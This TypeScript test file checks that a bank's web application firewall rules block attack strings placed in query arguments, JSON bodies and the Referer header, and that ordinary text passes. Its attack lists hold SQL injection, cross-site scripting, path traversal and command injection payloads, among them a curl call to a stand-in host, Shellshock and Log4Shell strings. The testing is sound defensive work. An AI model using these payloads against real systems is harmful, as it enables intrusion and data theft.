import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { asBody, asHeader, asQuery, bankFirewall } from './bank-firewall.ts';
import { firewallOf, type TemplateRule } from './firewall-of.ts';

/** Only rules that AWS decides as this machine does. */
const ownOnly = (rule: TemplateRule): TemplateRule =>
  'OverrideAction' in rule ? { ...rule, OverrideAction: { Count: {} } } : rule;
const { evaluate } = firewallOf(bankFirewall({ requestsPerFiveMinutes: 1_000_000 }).template, ownOnly);

const zones = {
  'one query argument': asQuery,
  'one string of a JSON body': (text: string) => asBody({ reference: text }),
  'a key of a JSON body': (text: string) => asBody({ [text]: 1 }),
  'the referer': (text: string) => asHeader('Referer', Buffer.from(text.replaceAll('\n', ' ')).toString('latin1')),
};

const attacks: Readonly<Record<string, readonly string[]>> = {
  SQL: [
    "x' OR 7=7 -- -",
    "x') and ('a'='a",
    '9 union all select null,null,version()',
    "9' UnIoN/**/SeLeCt 1,2,3#",
    '9%27%20or%201%3D1',
    "a'; drop table accounts; --",
    "a' || (select pg_sleep(9)) || '",
    '1 and extractvalue(1, concat(0x7e, version()))',
    "a'; waitfor delay '0:0:9'--",
    '1 order by 9--',
    "' or name() = 'x",
    'select password from users where id=1',
  ],
  scripts: [
    '<script>f()</script>',
    '<ScRiPt src=//x.example></sCrIpT>',
    '"><img src=x onerror=f()>',
    "' onfocus=f() autofocus='",
    'javascript:f(1)',
    'j&#97;vascript&colon;f(1)',
    '%3Csvg%20onload%3Df()%3E',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    'document.cookie',
    "window['al'+'ert'](1)",
    '{{constructor.constructor("f()")()}}',
  ],
  paths: [
    '../../../etc/hosts',
    '..\\..\\windows\\win.ini',
    '%2e%2e%2fetc%2fpasswd',
    '..%c0%af..%c0%afetc/passwd',
    '....//....//etc/passwd',
    '/etc/shadow',
    'file:///etc/passwd',
    'php://filter/convert.base64-encode/resource=index',
    'C:\\boot.ini',
    'a.txt%00.png',
  ],
  commands: [
    '; cat /etc/hosts',
    '| whoami',
    '&& curl http://x.example',
    'a`id`b',
    '$(sleep 9)',
    '() { :;}; /bin/bash -c id',
    '| ping -n 9 127.0.0.1',
    ';${IFS}id',
    '127.0.0.1 & ipconfig /all',
    '${jndi:ldap://x.example/a}',
    '| powershell -enc AAAA',
  ],
};

/** Bodies of headers differ: a line break would end the header. */
const harmless = [
  "O'Neil & sons; rent for November",
  'Drop off table 5 at 7pm',
  'Select committee, union dues - and 2 more',
  'Rent 5/6 + 7, flat B (2nd floor)',
  'Please select one from the list below.',
  '1950 or 1960, whichever is later',
  "The boys' trip -- or what is left of it",
  "He said 'yes' and 'no', then left",
  'Update your records: the table was sold',
  'Script for the school play, act 2',
  'Cat food; dog food; more of both',
  'M&S & more',
  'either/or, and/or',
  "Rock 'n' roll",
  '"Wood" and "Sign"',
  'Invoice #4711 = 12.50 EUR (net)',
  'Größe 5 < 6, passt',
  'Where the wild things are',
  'See https://example.com/a/b?c=d for details',
  'mail jo@example.com, tel. +49 30 1234567',
  'Caf\u00e9 \u2013 100 % arabica',
  'JavaScript: the good parts',
  "D'or, l'an 2000; c'est la vie...",
];

for (const [zone, put] of Object.entries(zones)) {
  describe(`rules of our own, in ${zone}`, () => {
    for (const [family, payloads] of Object.entries(attacks)) {
      it(`refuse ${family}`, () => {
        const missed = payloads.filter((text) => evaluate(put(text)).action !== 'block');
        assert.deepEqual(missed, []);
      });
    }

    it('let pass what people write', () => {
      const refused = harmless
        .map((text) => ({ text, ...evaluate(put(text)) }))
        .filter(({ action }) => action === 'block')
        .map(({ text, seen }) => `${seen.terminatingRule}: ${text}`);
      assert.deepEqual(refused, []);
    });
  });
}
